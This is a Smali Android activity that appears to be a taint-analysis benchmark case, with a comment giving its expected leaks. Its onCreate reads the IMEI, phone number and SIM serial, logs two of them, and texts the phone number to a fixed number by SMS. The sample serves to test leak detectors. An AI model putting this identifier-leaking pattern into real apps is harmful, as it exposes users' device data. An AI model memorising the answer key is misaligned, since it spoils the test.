.class public Lcom/piflow/families/helpers/Main;
.super Landroid/app/Activity;

# One helper called from several sites gives each site what that site passed in: wrap() returns
# its argument with a prefix; onCreate wraps the IMEI and logs it (Main.onCreate log: IMEI
# only), wraps the phone number and texts it (Main.onCreate sms: phone number only), and wraps a
# constant and copies it to the clipboard (no leak). A sink inside a helper is one site for
# every caller: report() logs what it is given, and gets the IMEI from one caller and the SIM
# serial from another (Main.report log: both).

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method private phone()Landroid/telephony/TelephonyManager;
    .locals 1
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Landroid/app/Activity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    return-object v0
.end method

.method private static wrap(Ljava/lang/String;)Ljava/lang/String;
    .locals 1
    const-string v0, "v="
    invoke-virtual {v0, p0}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method private static report(Ljava/lang/String;)V
    .locals 1
    const-string v0, "t"
    invoke-static {v0, p0}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 9
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-direct {p0}, Lcom/piflow/families/helpers/Main;->phone()Landroid/telephony/TelephonyManager;
    move-result-object v0
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v1
    invoke-static {v1}, Lcom/piflow/families/helpers/Main;->wrap(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v2
    const-string v3, "t"
    invoke-static {v3, v2}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    invoke-static {v1}, Lcom/piflow/families/helpers/Main;->report(Ljava/lang/String;)V
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getLine1Number()Ljava/lang/String;
    move-result-object v1
    invoke-static {v1}, Lcom/piflow/families/helpers/Main;->wrap(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v7
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v4
    const-string v5, "5554"
    const/4 v6, 0x0
    const/4 v8, 0x0
    invoke-virtual/range {v4 .. v8}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getSimSerialNumber()Ljava/lang/String;
    move-result-object v1
    invoke-static {v1}, Lcom/piflow/families/helpers/Main;->report(Ljava/lang/String;)V
    const-string v1, "none"
    invoke-static {v1}, Lcom/piflow/families/helpers/Main;->wrap(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    const-string v2, "clipboard"
    invoke-virtual {p0, v2}, Landroid/app/Activity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v2
    check-cast v2, Landroid/content/ClipboardManager;
    const-string v3, "t"
    invoke-static {v3, v1}, Landroid/content/ClipData;->newPlainText(Ljava/lang/CharSequence;Ljava/lang/CharSequence;)Landroid/content/ClipData;
    move-result-object v3
    invoke-virtual {v2, v3}, Landroid/content/ClipboardManager;->setPrimaryClip(Landroid/content/ClipData;)V
    return-void
.end method
